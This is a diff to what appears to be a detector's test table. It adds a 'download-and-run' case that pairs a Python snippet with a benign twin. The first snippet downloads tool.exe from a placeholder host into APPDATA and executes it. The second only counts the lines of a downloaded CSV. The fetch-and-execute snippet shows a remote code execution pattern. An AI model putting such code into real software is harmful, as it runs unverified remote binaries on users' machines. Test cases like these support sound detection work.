@@ -29,6 +29,23 @@ data = requests.get("http://host.example.invalid/model.bin").content
 with open("model.bin", "wb") as out:
     out.write(data)
 )"},
+    {"download-and-run", "",
+     R"(
+import os, requests, subprocess
+from pathlib import Path
+tool = Path(os.getenv("APPDATA")) / "tools" / "tool.exe"
+with open(tool, "wb") as out:
+    out.write(requests.get("http://host.example.invalid/tool").content)
+subprocess.run([str(tool)])
+)",
+     R"(
+import os, requests, subprocess
+from pathlib import Path
+table = Path(os.getenv("HOME")) / "table.csv"
+with open(table, "wb") as out:
+    out.write(requests.get("http://host.example.invalid/table.csv").content)
+subprocess.run(["wc", str(table)])
+)"},
     {"download-to-executable", "",
      R"(
 import os, requests, subprocess
